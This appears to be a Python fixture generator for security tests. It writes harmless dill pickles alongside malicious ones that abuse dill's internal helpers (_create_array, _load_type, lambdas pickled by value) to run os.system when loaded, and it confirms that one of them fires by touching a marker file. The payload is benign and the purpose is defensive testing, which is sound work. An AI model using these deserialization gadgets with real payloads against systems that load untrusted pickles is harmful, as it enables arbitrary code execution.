"""Fixtures for tests/test_secreal_*.py: dill pickles of plain data (benign) and dill helpers turned
against the loader (attacks), each attack proven to run its payload (a marker file) when made.

    benchmarks/work/fixturegen/bin/python tests/data/security/secreal/make.py

(the venv of scripts/make_security_fixtures.py, with dill). Writes benign/*.pkl, attacks/*.pkl and
VERSIONS.txt beside this file; tiny and deterministic for a given set of versions."""

from __future__ import annotations

import importlib.metadata
import os
import sys
import tempfile
from pathlib import Path

import dill
import numpy as np
import pandas as pd
from sklearn.linear_model import LogisticRegression
from sklearn.pipeline import make_pipeline
from sklearn.preprocessing import StandardScaler

HERE = Path(__file__).resolve().parent
MARK = Path(tempfile.gettempdir()) / "aitrail-secreal-marker"
PAYLOAD = f"touch {MARK}"


def benign() -> dict[str, object]:
    rng = np.random.default_rng(0)
    x = rng.random((20, 3))
    pipe = make_pipeline(StandardScaler(), LogisticRegression()).fit(x, (x[:, 0] > 0.5).astype(int))
    return {
        "dill_sklearn_pipeline.pkl": pipe,  # numpy arrays through dill._dill._create_array
        "dill_pandas_frame.pkl": pd.DataFrame({"a": [1, 2], "b": ["x", "y"]}),  # slices via _load_type
        "dill_builtin_types.pkl": {"t": int, "s": slice, "n": type(None), "b": bytearray},
    }


class CreateArray:  # dill's array helper handed os.system instead of numpy's _reconstruct
    def __reduce__(self):  # type: ignore[no-untyped-def]
        return (dill._dill._create_array, (os.system, (PAYLOAD,), None))


class LoadTypeCall:  # _load_type("FunctionType") is types.FunctionType: calling it builds a function
    def __reduce__(self):  # type: ignore[no-untyped-def]
        code = compile(f"__import__('os').system({PAYLOAD!r})", "<x>", "exec")
        return (dill._dill._load_type("FunctionType"), (code, {}))


def attacks() -> dict[str, bytes]:
    fn = dill.loads(dill.dumps(LoadTypeCall()))  # the function is built on load; calling it runs it
    assert callable(fn)
    return {
        "dill_create_array_os_system.pkl": dill.dumps(CreateArray()),
        "dill_load_type_function.pkl": dill.dumps(LoadTypeCall()),
        "dill_lambda_by_value.pkl": dill.dumps(lambda: os.system(PAYLOAD)),  # code pickled by value
    }


def main() -> None:
    for name, obj in benign().items():
        (HERE / "benign").mkdir(exist_ok=True)
        (HERE / "benign" / name).write_bytes(dill.dumps(obj))
    for name, data in attacks().items():
        (HERE / "attacks").mkdir(exist_ok=True)
        (HERE / "attacks" / name).write_bytes(data)
    # proof: loading the first one runs its payload (dill.loads, then the array's __setstate__ fails)
    MARK.unlink(missing_ok=True)
    try:
        dill.loads((HERE / "attacks" / "dill_create_array_os_system.pkl").read_bytes())
    except Exception:  # noqa: BLE001 - the payload ran before the helper failed on its result
        pass
    assert MARK.exists(), "payload did not run"
    MARK.unlink()
    libs = ["dill", "numpy", "pandas", "scikit-learn"]
    vers = [f"python {sys.version.split()[0]}"] + [f"{x} {importlib.metadata.version(x)}" for x in libs]
    (HERE / "VERSIONS.txt").write_text("\n".join(vers) + "\n")


if __name__ == "__main__":
    main()
